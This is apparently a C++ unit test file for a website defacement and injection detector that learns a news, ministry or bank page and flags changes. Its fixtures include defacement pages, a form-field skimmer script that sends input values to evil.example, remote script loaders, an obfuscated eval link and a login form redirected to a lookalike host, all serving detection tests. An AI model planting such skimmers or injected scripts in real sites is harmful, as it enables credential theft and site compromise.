#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "sites/judge/findings.h"
#include "sites/judge/judge.h"
#include "sites/judge/test_pages.h"

namespace vedette::sites {
namespace {

using namespace test;

constexpr std::string_view kNews = "https://baosonghong.example/";
constexpr std::string_view kMinistry = "https://thuyloi.example/";
constexpr std::string_view kBank = "https://ib.senvang.example/";

bool has(const Judgement& j, std::string_view kind) {
  return std::any_of(j.findings.begin(), j.findings.end(),
                     [&](const PageFinding& f) { return f.kind == kind; });
}
bool hostile(const Judgement& j) {
  return std::any_of(j.findings.begin(), j.findings.end(), [](const PageFinding& f) { return f.hostile; });
}
std::string kinds(const Judgement& j) {
  std::string out(to_string(j.verdict));
  for (const PageFinding& f : j.findings)
    out += " " + f.kind + "/" + std::string(to_string(f.severity)) + "@" + f.where;
  return out;
}

class NewsTest : public testing::Test {
 protected:
  Judgement judge(std::string_view body, int status = 200) {
    return profile_.judge(fetched(kNews, body, status), kLearnTarget);
  }
  Judgement injected(std::string_view before, std::string_view added) {
    return judge(with(newspaper(9), before, added));
  }
  Profile profile_ = learnt(kNews, newspaper);
};

TEST_F(NewsTest, CountersTokensNewsAndAdvertisementsAreItsOwnBusiness) {
  for (int i = 8; i < 30; ++i) {
    const std::string body = newspaper(i);
    const Judgement j = judge(body);
    EXPECT_EQ(j.verdict, Verdict::kOk) << i << ": " << kinds(j);
    profile_.learn(fetched(kNews, body));
  }
}

TEST_F(NewsTest, AReplacedPageIsCriticalAndNamedByItsWords) {
  const Judgement j = judge(
      "<html><head><title>Hacked By Test Crew</title></head><body bgcolor=black><center><h1>Hacked By Test "
      "Crew</h1></center></body></html>");
  EXPECT_EQ(j.verdict, Verdict::kCritical);
  EXPECT_TRUE(has(j, "page_replaced") && has(j, "hostile_page") && hostile(j)) << kinds(j);
  EXPECT_TRUE(j.findings.front().at_once);
  EXPECT_THAT(j.findings.front().attack, testing::Contains("T1491.002"));
  EXPECT_THAT(j.findings.front().before, testing::HasSubstr("Báo Sông Hồng"));
  EXPECT_THAT(j.findings.front().after, testing::HasSubstr("Hacked By Test Crew"));
}

TEST_F(NewsTest, AStrangersOrdinaryPageIsAReplacementButNotCalledHostile) {
  const std::string other = ministry(1);
  const Judgement j = judge(other);
  EXPECT_EQ(j.verdict, Verdict::kCritical) << kinds(j);
  EXPECT_FALSE(hostile(j)) << kinds(j);
}

TEST_F(NewsTest, ABodyThatIsDecodedByScriptIsNamed) {
  const Judgement j = judge(
      "<script>document.documentElement.innerHTML=atob('PGgxPkhBQ0tFRCBCWSBURVNUIFRFQU08L2gxPg==');</"
      "script>");
  EXPECT_EQ(j.verdict, Verdict::kCritical);
  EXPECT_TRUE(hostile(j)) << kinds(j);
}

TEST_F(NewsTest, AnArticleAboutHackersIsNews) {
  const Judgement j = injected(
      "<p>Lượt xem",
      "<div class=\"tin\"><h2><a href=\"/bai-77\">Cảnh báo mã độc tống tiền nhắm vào bệnh viện</a></h2><p>"
      "The ministry said on Monday that several hospitals had been attacked and that hackers demanded money; "
      "experts of the "
      "security centre work with the police, and patients are asked to be patient while systems are restored "
      "from copies. "
      "Officials said that no patient data were lost and that the investigation goes on with partners abroad "
      "this week.</p></div>");
  EXPECT_EQ(j.verdict, Verdict::kOk) << kinds(j);
}

TEST_F(NewsTest, ADefacersLineInAPageThatStaysIsReported) {
  const Judgement j = injected("<nav>", "<h1>Hacked by Test Crew</h1>");
  EXPECT_TRUE(j.verdict == Verdict::kWarn || j.verdict == Verdict::kCritical) << kinds(j);
  EXPECT_TRUE(has(j, "hostile_words") && hostile(j)) << kinds(j);
}

TEST_F(NewsTest, ATitleThatNamesAnAttackerIsCriticalAtOnce) {
  std::string body = newspaper(9);
  body.replace(body.find("<title>") + 7, body.find("</title>") - body.find("<title>") - 7,
               "Hacked by Test Crew");
  const Judgement j = judge(body);
  EXPECT_EQ(j.verdict, Verdict::kCritical) << kinds(j);
  EXPECT_TRUE(has(j, "hostile_title"));
}

struct Injected {
  std::string_view kind, before, markup;
};
class InjectionTest : public NewsTest, public testing::WithParamInterface<Injected> {};
TEST_P(InjectionTest, IsReportedByItsKind) {
  const Judgement j = injected(GetParam().before, GetParam().markup);
  EXPECT_TRUE(j.verdict == Verdict::kWarn || j.verdict == Verdict::kCritical) << kinds(j);
  EXPECT_TRUE(has(j, GetParam().kind)) << kinds(j);
}
INSTANTIATE_TEST_SUITE_P(
    Kinds, InjectionTest,
    testing::Values(
        Injected{"foreign_script", "</head>", "<script src=\"https://evil.example/x.js\"></script>"},
        Injected{"foreign_frame", "<footer>",
                 "<iframe src=\"https://evil.example/\" width=1 height=1></iframe>"},
        Injected{"foreign_form", "<footer>", "<form action=\"https://evil.example/p\"><input name=a></form>"},
        Injected{"foreign_object", "<footer>", "<object data=\"https://evil.example/o\"></object>"},
        Injected{"foreign_style", "</head>", "<link rel=stylesheet href=\"https://evil.example/c.css\">"},
        Injected{"base_href", "<title>", "<base href=\"https://evil.example/\">"},
        Injected{"meta_refresh", "<title>",
                 "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">"},
        Injected{"data_script", "</head>", "<script src=\"data:text/javascript,alert(1)\"></script>"},
        Injected{"inline_loader", "</body>",
                 "<script>var "
                 "s=document.createElement('script');s.src='https://evil.example/"
                 "a.js';document.body.appendChild(s)</script>"},
        Injected{"skimmer", "</body>",
                 "<script>document.addEventListener('change',function(e){fetch('https://evil.example/"
                 "i?'+e.target.value)})</script>"},
        Injected{"event_handler", "<footer>", "<svg onload=\"fetch('https://evil.example/')\"></svg>"},
        Injected{"script_url", "<footer>", "<a href=\"javascript:eval(atob('YWxlcnQoMSk='))\">x</a>"},
        Injected{"hidden_link", "</body>",
                 "<div style=\"display:none\"><a href=\"https://a1.example/\">a</a></div>"},
        Injected{"injected_spam", "</body>",
                 "<div style=\"display:none\"><a href=\"https://b1.example/\">nhà cái uy tín</a></div>"}),
    [](const auto& info) { return std::string(info.param.kind); });

// The same elements with origins, handlers and links that the page always had.
class OwnersElementTest : public NewsTest, public testing::WithParamInterface<Injected> {};
TEST_P(OwnersElementTest, IsNotReported) {
  auto with_element = [&](int i) { return with(newspaper(i), GetParam().before, GetParam().markup); };
  const Profile profile = learnt(kNews, with_element);
  const std::string body = with_element(12);
  const Judgement j = profile.judge(fetched(kNews, body), kLearnTarget);
  EXPECT_EQ(j.verdict, Verdict::kOk) << kinds(j);
}
INSTANTIATE_TEST_SUITE_P(
    Kinds, OwnersElementTest,
    testing::Values(
        Injected{"foreign_script", "</head>", "<script src=\"https://cdn.partner.example/x.js\"></script>"},
        Injected{"foreign_frame", "<footer>", "<iframe src=\"https://video.partner.example/\"></iframe>"},
        Injected{"foreign_form", "<footer>",
                 "<form action=\"https://search.partner.example/p\"><input name=a></form>"},
        Injected{"foreign_style", "</head>",
                 "<link rel=stylesheet href=\"https://cdn.partner.example/c.css\">"},
        Injected{"meta_refresh", "<title>", "<meta http-equiv=refresh content=\"600\">"},
        Injected{"inline_loader", "</body>",
                 "<script>var "
                 "s=document.createElement('script');s.src='https://cdn.partner.example/"
                 "a.js';document.body.appendChild(s)</script>"},
        Injected{"event_handler", "<footer>", "<img src=/a.png onerror=\"this.src='/b.png'\">"},
        Injected{"hidden_link", "</body>",
                 "<div style=\"display:none\"><a href=\"https://facebook.com/bao\">Facebook</a></div>"}),
    [](const auto& info) { return std::string(info.param.kind); });

class OutageTest : public NewsTest, public testing::WithParamInterface<std::pair<int, const char*>> {};
TEST_P(OutageTest, IsUnavailableNotDefaced) {
  const Judgement j = judge(GetParam().second, GetParam().first);
  EXPECT_EQ(j.verdict, Verdict::kUnavailable) << kinds(j);
  EXPECT_TRUE(has(j, "unavailable"));
}
INSTANTIATE_TEST_SUITE_P(
    Answers, OutageTest,
    testing::Values(
        std::pair{
            502,
            "<html><head><title>502 Bad Gateway</title></head><body><h1>502 Bad Gateway</h1></body></html>"},
        std::pair{
            200,
            "<html><head><title>Just a moment...</title></head><body>Checking your browser</body></html>"},
        std::pair{200,
                  "<html><head><title>Hệ thống đang bảo trì</title></head><body><p>Quý khách vui lòng quay "
                  "lại sau</p></body></html>"},
        std::pair{200,
                  "<html><head><title>Đăng nhập</title></head><body><form><input "
                  "type=password></form></body></html>"},
        std::pair{200, ""}, std::pair{404, "x"}));

TEST_F(NewsTest, ACutBodyIsUnavailable) {
  const std::string body = newspaper(9);
  EXPECT_EQ(judge(std::string_view(body).substr(0, body.size() / 2)).verdict, Verdict::kUnavailable);
}

TEST_F(NewsTest, AnErrorPageWithHostileWordsStaysHostile) {
  const Judgement j = judge(
      "<html><head><title>404 Not Found</title></head><body><h1>Hacked by Test Crew</h1></body></html>", 404);
  EXPECT_EQ(j.verdict, Verdict::kCritical) << kinds(j);
  EXPECT_TRUE(hostile(j));
}

TEST_F(NewsTest, AnApprovedVersionIsRightForEver) {
  const std::string redesign = ministry(3);
  ASSERT_EQ(judge(redesign).verdict, Verdict::kCritical);
  profile_.approve(fetched(kNews, redesign));
  EXPECT_EQ(judge(redesign).verdict, Verdict::kOk);
  for (int i = 0; i < 40; ++i) profile_.learn(fetched(kNews, newspaper(i)));
  EXPECT_EQ(judge(redesign).verdict, Verdict::kOk) << kinds(judge(redesign));
  EXPECT_EQ(judge(newspaper(41)).verdict, Verdict::kOk) << kinds(judge(newspaper(41)));
}

TEST_F(NewsTest, AnIgnoredElementStaysSilentAndOthersDoNot) {
  const Judgement before = injected("</head>", "<script src=\"https://evil.example/x.js\"></script>");
  ASSERT_TRUE(has(before, "foreign_script"));
  profile_.ignore(before.findings.front().where);
  EXPECT_EQ(injected("</head>", "<script src=\"https://evil.example/x.js\"></script>").verdict, Verdict::kOk);
  EXPECT_EQ(injected("</head>", "<script src=\"https://other.example/x.js\"></script>").verdict,
            Verdict::kWarn);
}

TEST(MinistryTest, AnOwnersRewriteOfAllTextsIsNoReplacement) {
  const Profile profile = learnt(kMinistry, ministry);
  std::string body = ministry(9);
  for (std::size_t at = body.find("<p>"); at != std::string::npos; at = body.find("<p>", at + 1))
    body.replace(at + 3, body.find("</p>", at) - at - 3,
                 "Nội dung mới của ban biên tập số " + std::string(at % 26 + 1, 'x'));
  const Judgement j = profile.judge(fetched(kMinistry, body), kLearnTarget);
  EXPECT_NE(j.verdict, Verdict::kCritical) << kinds(j);
}

TEST(BankTest, AFormThatSendsPasswordsAwayIsCritical) {
  const Profile profile = learnt(kBank, bank);
  std::string body = bank(9);
  body.replace(body.find("/ib/login"), 9, "https://senvang-login.example/p");
  const Judgement j = profile.judge(fetched(kBank, body), kLearnTarget);
  EXPECT_EQ(j.verdict, Verdict::kCritical) << kinds(j);
  EXPECT_TRUE(has(j, "foreign_form"));
}

TEST(BankTest, ALoginPageThatAlwaysWasOneIsThePageItself) {
  const Profile profile = learnt(kBank, bank);
  EXPECT_EQ(profile.judge(fetched(kBank, bank(20)), kLearnTarget).verdict, Verdict::kOk);
}

TEST(ShellTest, AScriptShellIsJudgedOnTheRenderedPage) {
  auto shell = [](int i) {
    return "<!doctype html><html><head><title>App</title></head><body><div id=root></div><script "
           "src=/static/js/main." +
           std::to_string(i) + ".js></script></body></html>";
  };
  const Profile profile = learnt("https://app.example/", shell);
  EXPECT_TRUE(profile.judge(fetched("https://app.example/", shell(9)), kLearnTarget).shell);
  EXPECT_FALSE(learnt(kMinistry, ministry).judge(fetched(kMinistry, ministry(9)), kLearnTarget).shell);
}

TEST(LearningTest, ItSaysSoUntilTheTargetAndNamesWhatIsAlreadyDefaced) {
  Profile profile;
  EXPECT_EQ(profile.judge(fetched(kMinistry, ministry(0)), kLearnTarget).verdict, Verdict::kLearning);
  profile.learn(fetched(kMinistry, ministry(0)));
  EXPECT_EQ(profile.judge(fetched(kMinistry, ministry(1)), kLearnTarget).verdict, Verdict::kLearning);
  EXPECT_EQ(Profile()
                .judge(fetched(kMinistry, "<title>Hacked by Test Crew</title><h1>Hacked by Test Crew</h1>"),
                       kLearnTarget)
                .verdict,
            Verdict::kCritical);
}

TEST(FindingTest, EveryKindHasItsSentencesInBothLanguages) {
  for (Language language : {Language::kEnglish, Language::kVietnamese}) {
    const std::vector<std::string> keys = catalogue_keys(language);
    for (std::string_view kind : finding_kinds()) {
      for (std::string_view part : {"title", "reason", "next"})
        EXPECT_TRUE(std::binary_search(keys.begin(), keys.end(),
                                       "sites." + std::string(kind) + "." + std::string(part)))
            << kind << " " << part;
    }
  }
}

}  // namespace
}  // namespace vedette::sites
